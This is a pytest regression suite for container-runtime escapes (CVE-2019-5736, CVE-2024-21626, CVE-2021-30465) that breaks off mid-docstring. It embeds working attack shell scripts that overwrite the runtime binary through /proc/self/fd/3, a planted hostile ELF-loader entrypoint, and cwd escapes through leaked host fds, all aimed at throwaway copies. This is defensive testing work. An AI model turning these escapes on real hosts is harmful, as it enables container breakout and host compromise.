# SPDX-License-Identifier: Apache-2.0
"""Regression tests for every known container-runtime escape class (runc, crun advisories).

Each test plays the attacker: a hostile image (rootfs) or a hostile process in a container, and
asserts two kinds of evidence: what the container could do (probe output, attack script
output) and what the host shows afterwards (file hashes, host mount points, paths that must not
exist). Each docstring says how a naive runtime fails the test. Attacks that could damage the
host are aimed at throwaway targets: a private copy of the runtime binary, temporary victim
directories; host sysctls are only read and, if ever changed, restored before failing.
"""
import errno
import os
import secrets
import shutil
import stat
import subprocess
import time
from pathlib import Path

import pytest

from helpers import (IS_CELLA, RUNTIME, TIMEOUT, ConsoleSocket, caps_mask, find_mount,
                     parse_probe, wait_for)
from security_util import (BinaryRuntime, build_fake_loader, conftest, copy_runtime,
                           elf_interpreter, host_mountpoints, read_sysctl, sha256)

CORE_PATTERN = "/proc/sys/kernel/core_pattern"


# --- fixtures --------------------------------------------------------------------------------

@pytest.fixture
def copy_rt(workdir, state_root):
    """The runtime under test, run from a private copy: attacks aim at this copy's bytes. The
    copy has a directory of its own, as an installed binary has (cella's overlayfs view of its
    binary needs a state root outside the binary's directory)."""
    bindir = workdir / f"bin-{secrets.token_hex(4)}"
    bindir.mkdir()
    binary = copy_runtime(bindir, "cella-copy")
    yield BinaryRuntime(state_root, binary)
    shutil.rmtree(bindir, ignore_errors=True)


@pytest.fixture
def copy_bundles(workdir, base_rootfs, spec_template, copy_rt, request):
    """Like conftest's bundle_factory, with every command run by the copied binary."""
    made = []

    def make():
        b = conftest.make_bundle(workdir, base_rootfs, spec_template, copy_rt, request)
        made.append(b)
        return b

    yield make
    for b in made:
        b.cleanup()
    found = []
    for b in made:
        found += conftest.wait_for_no_leaks(b)
        shutil.rmtree(b.path, ignore_errors=True)
    assert not found, "left behind after delete -f:\n" + "\n".join(found)


@pytest.fixture
def victim(workdir):
    """A host directory a hostile rootfs aims at; must end exactly as it started."""
    d = workdir / f"victim-{secrets.token_hex(4)}"
    d.mkdir()
    (d / "keep").write_text("host file\n")
    yield d
    shutil.rmtree(d, ignore_errors=True)


def assert_victim_untouched(d):
    assert sorted(os.listdir(d)) == ["keep"], f"host directory {d} changed: {os.listdir(d)}"
    assert (d / "keep").read_text() == "host file\n"
    assert str(d) not in host_mountpoints(), f"something was mounted on host {d}"


@pytest.fixture
def core_pattern_guard():
    """Reads the host's core_pattern before and after; restores it (then fails) if it changed."""
    before = read_sysctl(CORE_PATTERN)
    yield before
    after = read_sysctl(CORE_PATTERN)
    if after != before:
        with open(CORE_PATTERN, "w") as f:
            f.write(before)
        pytest.fail(f"host {CORE_PATTERN} was changed from the container: {after!r}")


def ns_pid(host_pid):
    """The pid of host_pid inside its own (innermost) pid namespace."""
    with open(f"/proc/{host_pid}/status") as f:
        for line in f:
            if line.startswith("NSpid:"):
                return int(line.split()[-1])
    raise AssertionError("no NSpid line")


def join_pid_ns(bundle, host_pid):
    ns = [n for n in bundle.config["linux"]["namespaces"] if n["type"] != "pid"]
    ns.append({"type": "pid", "path": f"/proc/{host_pid}/ns/pid"})
    bundle.config["linux"]["namespaces"] = ns


def add_caps(bundle, *names):
    caps = bundle.config["process"].setdefault("capabilities", {})
    for kind in ("bounding", "effective", "permitted"):
        caps[kind] = sorted(set(caps.get(kind, [])) | set(names))


def drop_mount(bundle, destination):
    bundle.config["mounts"] = [m for m in bundle.config["mounts"]
                               if m["destination"] != destination]


def replace_with_symlink(path: Path, target: str):
    """Turns a rootfs path into a symlink (the base rootfs is hardlinked: unlink, never write)."""
    if path.is_symlink() or path.is_file():
        path.unlink()
    elif path.is_dir():
        shutil.rmtree(path)
    os.symlink(target, path)


# --- CVE-2019-5736: overwriting the host runtime binary through /proc/<pid>/exe ----------------

ATTACK_EXE = r"""
me=$$
found=
pick() {
    for p in /proc/[0-9]*; do
        n=${p#/proc/}
        [ "$n" = "$me" ] && continue
        t=$(readlink "$p/exe" 2>/dev/null) || continue
        case "$t" in /bin/busybox|/probe|"") continue;; esac
        echo "$p"
        return 0
    done
    return 1
}
i=0
while [ $i -lt 400 ]; do
    found=$(pick) && break
    sleep 0.05
    i=$((i+1))
done
if [ -z "$found" ]; then echo '{"found":false}'; exec /probe sleep 60; fi
echo "{\"found\":true,\"exe\":\"$(readlink $found/exe)\"}"
if (exec 3<"$found/exe") 2>/dev/null; then
    exec 3<"$found/exe"
    echo '{"opened":true}'
else
    echo '{"opened":false}'
fi
@RELEASE@
w=false
j=0
while [ $j -lt 200 ]; do
    if (echo CELLA-5736-PWNED >>/proc/self/fd/3) 2>/dev/null; then w=true; break; fi
    sleep 0.05
    j=$((j+1))
done
echo "{\"written\":$w}"
exec /probe sleep 60
"""


def attacker_script(release=""):
    return ATTACK_EXE.replace("@RELEASE@", release)


def wait_for_fact(bundle, key, timeout=40):
    try:
        wait_for(lambda: key in bundle.facts(), timeout, f"{key!r} from the attacker")
    except AssertionError as e:
        raise AssertionError(f"{e}; attacker said {bundle.output()!r} "
                             f"{bundle.err.read_text() if bundle.err.exists() else ''}")
    return bundle.facts()


def test_cve_2019_5736_init_not_dumpable_while_created(copy_bundles, copy_rt):
    """While a container is created, its init is still the runtime binary, waiting on
    exec.fifo. Another container in the same pid namespace (a pod) must not be able to open
    /proc/<init>/exe, read its fds or environ: the init is not dumpable until execve.

    A naive runtime leaves the init dumpable: the neighbour opens /proc/<init>/exe (the host
    binary), keeps the fd and, once the runtime has exec'd away, reopens it for writing via
    /proc/self/fd/N and overwrites the host binary."""
    pod = copy_bundles()
    assert pod.run_detached(["/probe", "sleep"]).returncode == 0
    pod_pid = copy_rt.state(pod.id)["pid"]

    victim_ct = copy_bundles()
    join_pid_ns(victim_ct, pod_pid)
    r = victim_ct.create(["/probe", "exit", "0"])
    assert r.returncode == 0, r.stderr
    init = copy_rt.state(victim_ct.id)["pid"]
    target = f"/proc/{ns_pid(init)}"
    before = sha256(copy_rt.binary)

    neighbour = copy_bundles()
    join_pid_ns(neighbour, pod_pid)
    f = neighbour.probe("read", f"{target}/exe", "stat", f"{target}/exe", "ls", f"{target}/fd",
                        "read", f"{target}/environ", "stat", f"{target}/cwd")
    assert f[f"read:{target}/exe"].get("errno") in (1, 13), f[f"read:{target}/exe"]
    assert f[f"stat:{target}/exe"].get("target", "") == ""
    # The fd numbers may be listed (DAC allows it to root); none may be followed.
    listed = f[f"ls:{target}/fd"]
    if isinstance(listed, list) and listed:
        args = []
        for n in listed:
            args += ["stat", f"{target}/fd/{n}", "read", f"{target}/fd/{n}"]
        g = neighbour.probe(*args, cid=neighbour.new_id())
        for n in listed:
            assert g[f"stat:{target}/fd/{n}"].get("target", "") == "", g
            assert g[f"read:{target}/fd/{n}"].get("errno") in (1, 13), g
    assert f[f"read:{target}/environ"].get("errno") in (1, 13)
    assert f[f"stat:{target}/cwd"].get("target", "") == ""
    assert sha256(copy_rt.binary) == before


def test_cve_2019_5736_ptrace_capable_neighbour(copy_bundles, copy_rt):
    """Like the test above, but the neighbour holds CAP_SYS_PTRACE (`--cap-add SYS_PTRACE`, a
    common setting for debuggers), which overrides non-dumpable. It opens /proc/<init>/exe
    read-only while the container is created, `start` runs, then it reopens the fd for writing.
    The runtime binary must be unchanged: runc and crun execute the init from a sealed memfd
    (or a read-only mount) so the handle never reaches the host file; a runtime relying on
    non-dumpable alone fails."""
    pod = copy_bundles()
    assert pod.run_detached(["/probe", "sleep"]).returncode == 0
    pod_pid = copy_rt.state(pod.id)["pid"]
    before = sha256(copy_rt.binary)

    attacker = copy_bundles()
    join_pid_ns(attacker, pod_pid)
    add_caps(attacker, "CAP_SYS_PTRACE")
    assert attacker.run_detached(["/bin/sh", "-c", attacker_script()]).returncode == 0

    created = copy_bundles()
    join_pid_ns(created, pod_pid)
    assert created.create(["/probe", "sleep"]).returncode == 0
    f = wait_for_fact(attacker, "opened")
    assert f["found"], f
    # `start` is the last run of the binary: after it the init is the probe, nothing holds the
    # file busy, and a write handle would succeed.
    assert copy_rt("start", created.id).returncode == 0
    f = wait_for_fact(attacker, "written")
    assert sha256(copy_rt.binary) == before, f"host runtime binary overwritten: {f}"
    assert not f["written"], f


@pytest.mark.parametrize("layout", ["own-dir", "state-in-bindir"])
def test_cve_2019_5736_init_binary_is_immutable(workdir, base_rootfs, spec_template, request,
                                                 layout):
    """The host's view of the attack: root on the host opens /proc/<init>/exe of a created
    container, `start` makes the init exec away, then the handle is reopened for writing. The
    runtime binary must be unchanged whichever way the runtime protects it. cella runs from a
    private overlayfs view of its binary's directory (writes: EROFS) when the state root can
    be its spare layer, else from a sealed memfd copy (writes: EPERM); "state-in-bindir" puts
    the state root inside the binary's directory, where overlayfs refuses the layers, to
    exercise the fallback.

    A runtime whose init runs from its on-disk binary fails: the write succeeds."""
    bindir = workdir / f"bin-{secrets.token_hex(4)}"
    bindir.mkdir()
    state = bindir / "state" if layout == "state-in-bindir" else workdir / "state"
    state.mkdir(mode=0o700, exist_ok=True)
    rt = BinaryRuntime(state, copy_runtime(bindir, "cella-copy"))
    b = conftest.make_bundle(workdir, base_rootfs, spec_template, rt, request)
    fd = -1
    try:
        before = sha256(rt.binary)
        assert b.create(["/probe", "sleep"]).returncode == 0
        init = rt.state(b.id)["pid"]
        exe = os.readlink(f"/proc/{init}/exe")
        fd = os.open(f"/proc/{init}/exe", os.O_RDONLY)
        if IS_CELLA:
            fstype = subprocess.run(["stat", "-f", "-c", "%T", f"/proc/self/fd/{fd}"],
                                    capture_output=True, text=True, pass_fds=[fd]).stdout
            if layout == "own-dir":
                assert fstype.strip() == "overlayfs" and exe == "/cella-copy", (exe, fstype)
            else:
                assert exe.startswith("/memfd:cella"), exe
        assert rt("start", b.id).returncode == 0
        wait_for(lambda: os.readlink(f"/proc/{init}/exe") != exe, 10, "the init to exec")
        written = None
        try:
            w = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_APPEND)
            try:
                written = os.write(w, b"CELLA-5736-PWNED")
            finally:
                os.close(w)
        except OSError as e:
            written = e.errno
        assert sha256(rt.binary) == before, "host runtime binary overwritten"
        if IS_CELLA:
            want = errno.EROFS if layout == "own-dir" else errno.EPERM
            assert written == want, f"write through the init's exe: {written}"
    finally:
        if fd >= 0:
            os.close(fd)
        b.cleanup()
        found = conftest.wait_for_no_leaks(b)
        shutil.rmtree(b.path, ignore_errors=True)
        shutil.rmtree(bindir, ignore_errors=True)
    assert not found, "left behind after delete -f:\n" + "\n".join(found)


@pytest.mark.skipif(not IS_CELLA, reason="cella's own re-execution marker")
@pytest.mark.parametrize("marker", ["1", "bogus", "own-fd"])
def test_cve_2019_5736_forged_reexec_marker_keeps_protection(bundle, rt, workdir, marker):
    """The variable by which cella's re-executed image knows itself is the caller's to set:
    forging it (whatever its value, even an fd the caller really passed) must not leave the
    init on the writable host binary."""
    env = dict(os.environ)
    held = None
    if marker == "own-fd":
        held = os.open(workdir, os.O_RDONLY | os.O_DIRECTORY)
        os.set_inheritable(held, True)
        marker = str(held)
    env["_CELLA_SEALED_OVERLAY"] = marker
    bundle.set_args(["/probe", "sleep"])
    bundle.write()
    try:
        # the container's stdio outlives create: files, not pipes
        with open(bundle.err, "ab") as err:
            r = rt("create", "--bundle", bundle.path, bundle.id, env=env,
                   pass_fds=[held] if held is not None else [], stdout=subprocess.DEVNULL,
                   stderr=err)
        assert r.returncode == 0, bundle.err.read_text()
        init = rt.state(bundle.id)["pid"]
        st, host = os.stat(f"/proc/{init}/exe"), os.stat(RUNTIME)
        assert (st.st_dev, st.st_ino) != (host.st_dev, host.st_ino), "init runs the host binary"
    finally:
        if held is not None:
            os.close(held)
        rt("delete", "-f", bundle.id)
    bundle.assert_no_leaks()


ATTACK_SCRIPT = r"""
echo "{\"loader\":\"$1\"}"
w=false
j=0
while [ $j -lt 300 ]; do
    if (echo CELLA-5736-PWNED >>/proc/self/fd/3) 2>/dev/null; then w=true; break; fi
    sleep 0.05
    j=$((j+1))
done
echo "{\"written\":$w}"
exec /probe sleep 60
"""


@pytest.fixture
def fake_loader(workdir):
    loader = build_fake_loader(workdir)
    if loader is None:
        pytest.skip("needs x86_64 and a C compiler to build the hostile ELF interpreter")
    return loader


def plant_entrypoint(bundle, shebang, option, value, rest):
    """The hostile entrypoint: `/proc/self/exe OPTION VALUE REST...`, or a script whose
    interpreter line is `#!/proc/self/exe OPTION` (the kernel then passes the script's own
    path where VALUE was)."""
    if not shebang:
        return ["/proc/self/exe", option, value, *rest]
    (bundle.rootfs / "entry").write_text(f"#!/proc/self/exe {option}\n")
    os.chmod(bundle.rootfs / "entry", 0o755)
    return ["/entry", *rest]


@pytest.mark.parametrize("shebang", [False, True], ids=["direct", "shebang"])
def test_cve_2019_5736_entrypoint_hostile_loader(copy_bundles, copy_rt, fake_loader, shebang):
    """The CVE-2019-5736 exploit in one hostile image (dynamically linked runtime). Its
    entrypoint is /proc/self/exe (or a script starting with `#!/proc/self/exe`): when the init
    execve()s it, the kernel resolves /proc/self/exe in the init — the runtime — and executes
    the runtime binary inside the container, loading that binary's ELF interpreter
    (/lib64/ld-linux-*.so.2) from the image. The image's "loader" opens /proc/self/exe, execs a
    script that keeps the fd, and writes through /proc/self/fd/3 once nothing executes the
    file.

    A runtime whose init execs from its on-disk binary fails: the host binary gains the
    attacker's bytes. runc, crun and cella (since 7a82904) run the init from a sealed memfd
    copy, so the handle reaches only the copy and the write fails."""
    interp = elf_interpreter(copy_rt.binary)
    if not interp:
        pytest.skip("the runtime binary is statically linked: no interpreter to plant "
                    "(the neighbour variant covers it)")
    before = sha256(copy_rt.binary)
    hostile = copy_bundles()
    loader = hostile.rootfs / interp.lstrip("/")
    loader.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy2(fake_loader, loader)
    os.chmod(loader, 0o755)
    (hostile.rootfs / "attack.sh").write_text(ATTACK_SCRIPT)
    r = hostile.run_detached(plant_entrypoint(hostile, shebang, "--log", "/cella.log",
                                              ["--version"]))
    assert r.returncode == 0, r.stderr
    f = wait_for_fact(hostile, "written")
    assert sha256(copy_rt.binary) == before, f"host runtime binary overwritten: {f}"
    # Opening /proc/self/exe is harmless when it is a sealed copy: the write must fail.
    assert not f["written"], f


def need_static(binary):
    """The neighbour variants run the runtime binary in a busybox image: a dynamically linked
    binary has no loader there (the hostile-loader variant covers those)."""
    if elf_interpreter(binary):
        pytest.skip("dynamically linked runtime: covered by the hostile-loader variant")


@pytest.mark.parametrize("shebang", [False, True], ids=["direct", "shebang"])
def test_cve_2019_5736_entrypoint_with_neighbour(copy_bundles, copy_rt, shebang):
    """The same exploit for any runtime binary, static ones included: the hostile entrypoint
    runs the runtime binary inside the container as `cella --log L create --bundle /b x`, where
    /b/config.json is a FIFO, so it blocks reading it. A neighbour in the same pid namespace
    (a pod sibling, default capabilities) finds the process, opens /proc/<pid>/exe — allowed:
    the process is dumpable and has the same uid — releases it by writing the FIFO through
    /proc/<pid>/root, and once it has exited reopens the fd for writing.

    A runtime whose init execs from its on-disk binary fails: the host binary changes."""
    need_static(copy_rt.binary)
    pod = copy_bundles()
    assert pod.run_detached(["/probe", "sleep"]).returncode == 0
    pod_pid = copy_rt.state(pod.id)["pid"]
    before = sha256(copy_rt.binary)

    release = 'timeout 5 sh -c "echo {} > $found/root/b/config.json" 2>/dev/null'
    attacker = copy_bundles()
    join_pid_ns(attacker, pod_pid)
    assert attacker.run_detached(["/bin/sh", "-c", attacker_script(release)]).returncode == 0

    hostile = copy_bundles()
    join_pid_ns(hostile, pod_pid)
    (hostile.rootfs / "b").mkdir()
    os.mkfifo(hostile.rootfs / "b" / "config.json")
    args = plant_entrypoint(hostile, shebang, "--log", "/cella.log",
                            ["create", "--bundle", "/b", "x"])
    r = hostile.run_detached(args)
    assert r.returncode == 0, r.stderr
    f = wait_for_fact(attacker, "written")
    assert f["found"], f"the runtime binary never ran in the container: {f}"
    assert sha256(copy_rt.binary) == before, f"host runtime binary overwritten: {f}"
    assert not f["written"], f


@pytest.mark.parametrize("shebang", [False, True], ids=["direct", "shebang"])
def test_cve_2019_5736_exec_runs_hostile_entrypoint(copy_bundles, copy_rt, shebang):
    """The exploit as first published: the attacker is the container's own init, and the
    victim is an admin's `exec` whose command is hostile (/proc/self/exe, or a script with
    `#!/proc/self/exe` as /bin/sh was in the original). The exec'd process is the runtime
    binary running inside the container; the init finds it, opens /proc/<pid>/exe, releases
    it through the FIFO and writes once `exec` has returned.

    A runtime whose exec child runs from the on-disk binary fails: the host binary changes."""
    need_static(copy_rt.binary)
    release = 'timeout 5 sh -c "echo {} > $found/root/b/config.json" 2>/dev/null'
    ct = copy_bundles()
    (ct.rootfs / "b").mkdir()
    os.mkfifo(ct.rootfs / "b" / "config.json")
    before = sha256(copy_rt.binary)
    assert ct.run_detached(["/bin/sh", "-c", attacker_script(release)]).returncode == 0
    args = plant_entrypoint(ct, shebang, "--log", "/cella.log",
                            ["create", "--bundle", "/b", "x"])
    r = copy_rt("exec", "-d", ct.id, *args)
    assert r.returncode == 0, r.stderr
    f = wait_for_fact(ct, "written")
    assert f["found"], f"the runtime binary never ran in the container: {f}"
    assert sha256(copy_rt.binary) == before, f"host runtime binary overwritten: {f}"
    assert not f["written"], f


# --- CVE-2024-21626: leaked host fds and a host cwd ------------------------------------------

def cgroup_dir():
    for d in ("/sys/fs/cgroup/unified", "/sys/fs/cgroup/memory", "/sys/fs/cgroup"):
        if os.path.isdir(d):
            return d
    pytest.skip("no cgroup directory to leak")


def run_with_fds(rt, bundle, fds, extra=(), cwd=None):
    """`run` with the given host fds placed at 3, 4, ... in the calling process."""
    bundle.write()
    targets = list(range(3, 3 + len(fds)))

    def place():
        for src, dst in zip(fds, targets):
            os.dup2(src, dst)
            os.set_inheritable(dst, True)

    return subprocess.run([RUNTIME, "--root", str(rt.state_root), "run", "-b", str(bundle.path),
                           *extra, bundle.id], capture_output=True, text=True, timeout=TIMEOUT,
                          preexec_fn=place, pass_fds=targets, cwd=cwd)


@pytest.fixture
def host_dir_fds(victim):
    """Open host directory fds (a writable victim dir, a cgroup dir, "/") to leak."""
    fds = [os.open(victim, os.O_RDONLY | os.O_DIRECTORY),
           os.open(cgroup_dir(), os.O_RDONLY | os.O_DIRECTORY),
           os.open("/", os.O_RDONLY | os.O_DIRECTORY)]
    yield fds
    for fd in fds:
        os.close(fd)


def test_cve_2024_21626_no_inherited_fds(bundle, rt, host_dir_fds, victim):
    """The runtime is started with host directory fds open (as a shim or containerd may leak
    them: the CVE was an fd of /sys/fs/cgroup inherited by runc init). The container must see
    only 0, 1, 2. A naive runtime passes them through execve: `ls /proc/self/fd/3/..` walks
    the host."""
    bundle.set_args(["/probe", "fds", "ls", "/proc/self/fd", "write", "/proc/self/fd/3/pwned"])
    r = run_with_fds(rt, bundle, host_dir_fds)
    assert r.returncode == 0, r
    f = parse_probe(r.stdout)
    assert set(f["fds"]) == {"0", "1", "2"}, f["fds"]
    assert f["write:/proc/self/fd/3/pwned"].get("errno") == 2
    assert_victim_untouched(victim)


def test_cve_2024_21626_preserve_fds_only_what_was_asked(bundle, rt, host_dir_fds, victim):
    """--preserve-fds 1 passes fd 3 and nothing above it (a naive runtime passes them all)."""
    bundle.set_args(["/probe", "fds"])
    r = run_with_fds(rt, bundle, host_dir_fds, extra=["--preserve-fds", "1"])
    assert r.returncode == 0, r
    assert set(parse_probe(r.stdout)["fds"]) == {"0", "1", "2", "3"}


@pytest.mark.parametrize("fd", [3, 4, 5, 6, 7, 8])
def test_cve_2024_21626_cwd_through_leaked_fd(bundle, rt, host_dir_fds, victim, fd):
    """The exploit: process.cwd = /proc/self/fd/N where N is a leaked host directory fd, so the
    container starts with its cwd on the host and `../../..` reaches the host root. The runtime
    must refuse (cella resolves cwd inside the rootfs without magic links) or end with a cwd
    inside the rootfs; a marker written relative to the cwd must never land on the host."""
    bundle.config["process"]["cwd"] = f"/proc/self/fd/{fd}"
    bundle.set_args(["/probe", "cwd", "ls", ".", "write", "cella-21626-marker",
                     "stat", "/proc/self/cwd"])
    r = run_with_fds(rt, bundle, host_dir_fds)
    assert_victim_untouched(victim)
    assert not os.path.exists("/cella-21626-marker")
    if r.returncode == 0:
        f = parse_probe(r.stdout)
        listing = set(f["ls:."]) if isinstance(f["ls:."], list) else set()
        assert "keep" not in listing, "cwd is the leaked host directory"
        assert not (listing & {"cgroup.procs", "tasks", "work", "boot"}), listing
        assert not f["stat:/proc/self/cwd"].get("target", "").startswith(str(victim))
    else:
        assert r.stderr, "refused without an error message"


def exec_with_fds(rt, cid, fds, *args):
    """`exec` with the given host fds placed at 3, 4, ... in the calling process."""
    targets = list(range(3, 3 + len(fds)))

    def place():
        for src, dst in zip(fds, targets):
            os.dup2(src, dst)
            os.set_inheritable(dst, True)

    return subprocess.run([RUNTIME, "--root", str(rt.state_root), "exec", *args[:-1], cid,
                           *args[-1]], capture_output=True, text=True, timeout=TIMEOUT,
                          preexec_fn=place, pass_fds=targets)


def test_cve_2024_21626_exec_leaks_no_fds(bundle, rt, host_dir_fds, victim):
    """`exec` started with host directory fds open: the new process sees 0-2 only, or 0-3
    with --preserve-fds 1 (the CVE's second variant leaked them through `runc exec`)."""
    assert bundle.run_detached(["/probe", "sleep"]).returncode == 0
    r = exec_with_fds(rt, bundle.id, host_dir_fds, ["/probe", "fds", "cwd"])
    assert r.returncode == 0, r
    assert set(parse_probe(r.stdout)["fds"]) == {"0", "1", "2"}, r.stdout
    r = exec_with_fds(rt, bundle.id, host_dir_fds, "--preserve-fds", "1", ["/probe", "fds"])
    assert r.returncode == 0, r
    assert set(parse_probe(r.stdout)["fds"]) == {"0", "1", "2", "3"}, r.stdout
    assert_victim_untouched(victim)


EXEC_CWD_BUG = (
    "cella bug: `exec --cwd` (and process.json cwd) is a plain chdir() in the exec child while "
    "it still holds the runtime's own directory fds (the state root, the container's state "
    "dir) and any fds inherited from the caller; --cwd /proc/self/fd/N starts the process in "
    "a host directory, where it writes files (CVE-2024-21626 exactly)")
MARKER = "cella-21626-marker"


def exec_cwd_escapes(rt, cid, fds, victim):
    """Tries `exec --cwd /proc/self/fd/N` for N = 3..9; returns where a marker landed on the
    host (and removes it), or listings that show a host directory."""
    escapes = []
    for fd in range(3, 10):
        r = exec_with_fds(rt, cid, fds, "--cwd", f"/proc/self/fd/{fd}",
                          ["/probe", "cwd", "ls", ".", "write", MARKER])
        for d in ("/", str(rt.state_root), str(rt.state_root / cid), str(victim)):
            if os.path.lexists(os.path.join(d, MARKER)):
                escapes.append(f"fd {fd}: marker written in host {d}")
                os.unlink(os.path.join(d, MARKER))
        if r.returncode == 0:
            listing = parse_probe(r.stdout).get("ls:.")
            if isinstance(listing, list) and ({"keep", "work", "state.json", cid} & set(listing)):
                escapes.append(f"fd {fd}: cwd lists a host directory: {listing[:5]}")
    return escapes


def test_cve_2024_21626_exec_cwd_through_runtime_fd(bundle, rt, victim):
    """The CVE as found in runc: `exec` with cwd /proc/self/fd/N, N being one of the runtime's
    *own* directory fds (runc leaked a cgroup dir fd). Refused, or a cwd inside the container;
    never a host directory."""
    assert bundle.run_detached(["/probe", "sleep"]).returncode == 0
    escapes = exec_cwd_escapes(rt, bundle.id, [], victim)
    assert_victim_untouched(victim)
    assert not escapes, escapes


def test_cve_2024_21626_exec_cwd_through_leaked_fd(bundle, rt, host_dir_fds, victim):
    """The same with host directory fds (a victim dir, a cgroup dir, /) open in the caller."""
    assert bundle.run_detached(["/probe", "sleep"]).returncode == 0
    escapes = exec_cwd_escapes(rt, bundle.id, host_dir_fds, victim)
    assert_victim_untouched(victim)
    assert not escapes, escapes


def create_with_fds(rt, bundle, fds):
    """`create` with the given host fds placed at 3, 4, ... in the calling process."""
    bundle.write()
    targets = list(range(3, 3 + len(fds)))

    def place():
        for src, dst in zip(fds, targets):
            os.dup2(src, dst)
            os.set_inheritable(dst, True)

    with open(bundle.out, "ab") as out, open(bundle.err, "ab") as err:
        r = subprocess.run([RUNTIME, "--root", str(rt.state_root), "create", "-b",
                            str(bundle.path), bundle.id], stdout=out, stderr=err,
                           timeout=TIMEOUT, preexec_fn=place, pass_fds=targets)
    assert r.returncode == 0, bundle.err.read_text()
    return rt.state(bundle.id)["pid"]


def directory_fds(pid):
    found = []
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            st = os.stat(f"/proc/{pid}/fd/{fd}")
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if stat.S_ISDIR(st.st_mode):
            found.append(f"{fd} -> {target}")
    return found


INHERITED_FDS_BUG = (
    "cella bug: fds inherited from the caller stay open in the container init until "
    "step_lockdown marks them CLOEXEC just before execve; while the container is created, "
    "the init holds host directory fds (here a cgroup dir and /) that a neighbour with "
    "CAP_SYS_PTRACE reaches through /proc/<init>/fd/N")


def test_cve_2024_21626_created_init_holds_no_host_directory(bundle, rt, host_dir_fds):
    """While created, the init (still the runtime) may hold only what it needs (sync socket,
    exec fifo, stdio): no directory fds (the caller's, the rootfs, state dir, cgroup dir) that
    could reach the container. Checked from the host on /proc/<init>/fd; the init's root and
    cwd must be the rootfs. runc never has this: runc init is exec'd with only the fds it
    needs."""
    bundle.set_args(["/probe", "fds", "cwd", "stat", "/proc/self/cwd"])
    pid = create_with_fds(rt, bundle, host_dir_fds)
    assert os.path.samefile(f"/proc/{pid}/root", bundle.rootfs), "init root outside the rootfs"
    assert os.path.samefile(f"/proc/{pid}/cwd", bundle.rootfs), "init cwd outside the rootfs"
    dirs = directory_fds(pid)
    assert not dirs, f"created init holds host directory fds: {dirs}"


def test_cve_2024_21626_fds_closed_after_start(bundle, rt, host_dir_fds):
    """After `start`, the container process holds 0-2 only and its cwd is the container's
    root, even though the runtime was started with host directory fds open."""
    bundle.set_args(["/probe", "fds", "cwd", "stat", "/proc/self/cwd"])
    create_with_fds(rt, bundle, host_dir_fds)
    assert rt("start", bundle.id).returncode == 0
    bundle.wait_output("/proc/self/cwd")
    f = bundle.facts()
    assert set(f["fds"]) == {"0", "1", "2"}, f["fds"]
    assert f["cwd"] == "/"
    assert f["stat:/proc/self/cwd"]["target"] == "/"


def test_cve_2024_21626_neighbour_reaches_leaked_fd(bundle_factory, rt, host_dir_fds, victim):
    """The exploit for the finding above: a container in the same pid namespace (a pod
    sibling) holding CAP_SYS_PTRACE opens /proc/<created init>/fd/3 — a host directory — and
    writes a file into it. The host directory must stay untouched."""
    pod = bundle_factory()
    assert pod.run_detached(["/probe", "sleep"]).returncode == 0
    pod_pid = rt.state(pod.id)["pid"]
    created = bundle_factory()
    join_pid_ns(created, pod_pid)
    created.set_args(["/probe", "exit", "0"])
    init = create_with_fds(rt, created, host_dir_fds)
    target = f"/proc/{ns_pid(init)}/fd"
    sib = bundle_factory()
    join_pid_ns(sib, pod_pid)
    add_caps(sib, "CAP_SYS_PTRACE")
    f = sib.probe("write", f"{target}/3/pwned", "ls", f"{target}/5")
    assert_victim_untouched(victim)
    assert f[f"write:{target}/3/pwned"].get("errno") != 0
    listing = f[f"ls:{target}/5"]
    assert not (isinstance(listing, list) and "work" in listing), "host root listed"


# --- shared evidence for the procfs classes ---------------------------------------------------

# A host-global, harmless integer sysctl: the probe writes "probe\n" to it, so an open that
# succeeds shows up as EINVAL (the value cannot parse) and the value never changes. An errno of
# 0 or EINVAL therefore means "the container holds a write handle on host procfs".
SYSCTL_TARGET = "sys/kernel/printk_ratelimit"
REFUSED = (2, 13, 20, 30)  # ENOENT, EACCES, ENOTDIR, EROFS


def masked_file():
    """A file of Docker's maskedPaths that this kernel has (kcore needs CONFIG_PROC_KCORE)."""
    for p in ("/proc/kcore", "/proc/timer_list", "/proc/keys"):
        if os.path.exists(p):
            return p
    pytest.skip("no maskable /proc file on this kernel")


@pytest.fixture
def procfs_guard():
    """Host core_pattern and the target sysctl, before and after; restored (then failing) if a
    container changed them."""
    paths = [CORE_PATTERN, f"/proc/{SYSCTL_TARGET}"]
    before = {p: read_sysctl(p) for p in paths}
    yield before
    changed = {}
    for p in paths:
        now = read_sysctl(p)
        if now != before[p]:
            changed[p] = now
            with open(p, "w") as f:
                f.write(before[p])
    if changed:
        pytest.fail(f"host procfs changed from the container (restored): {changed}")


def procfs_roots(*extra):
    """Every path through which a container might reach a procfs root, incl. `/..`: a mount
    stacked on the rootfs root itself is reachable as the parent of `/`."""
    return ["/proc", "/..", "/proc/..", *extra]


def procfs_probe_args(*roots):
    args = []
    for r in roots:
        args += ["write", f"{r}/{SYSCTL_TARGET}", "read", f"{r}/{os.path.basename(masked_file())}",
                 "write", f"{r}/sysrq-trigger-cella-probe"]
    return args


def assert_procfs_protected(f, *roots):
    """No write handle on host sysctls and no unmasked masked file via any root."""
    mask = os.path.basename(masked_file())
    for r in roots:
        w = f[f"write:{r}/{SYSCTL_TARGET}"]
        assert w.get("errno") in REFUSED, f"{r}/{SYSCTL_TARGET} writable from the container: {w}"
        got = f[f"read:{r}/{mask}"]
        assert got == "" or (isinstance(got, dict) and got.get("errno") in REFUSED), \
            f"{r}/{mask} readable: masking bypassed ({str(got)[:80]})"


def new_host_mounts(before, *needles):
    """Host mount points added since `before` that concern this test (other suites may be
    mounting things concurrently on this machine)."""
    return [p for p in set(host_mountpoints()) - before
            if any(n in p for n in needles) or p in ("/", "/proc", "/sys", "/dev")]


# --- CVE-2021-30465 / CVE-2023-27561: mount destinations through symlinks --------------------

def host_paths_absent(*paths):
    present = [p for p in paths if os.path.lexists(p)]
    assert not present, f"created on the host: {present}"


LINK_TARGETS = ["/", "../../../../../../..", "/proc/self/root", "/proc/1/root/tmp"]


@pytest.mark.parametrize("kind", ["tmpfs", "bind"])
@pytest.mark.parametrize("link", LINK_TARGETS + ["VICTIM"])
def test_cve_2021_30465_symlinked_parent_of_destination(bundle, victim, workdir, link, kind):
    """A rootfs directory that a mount destination goes through is a symlink to the host root,
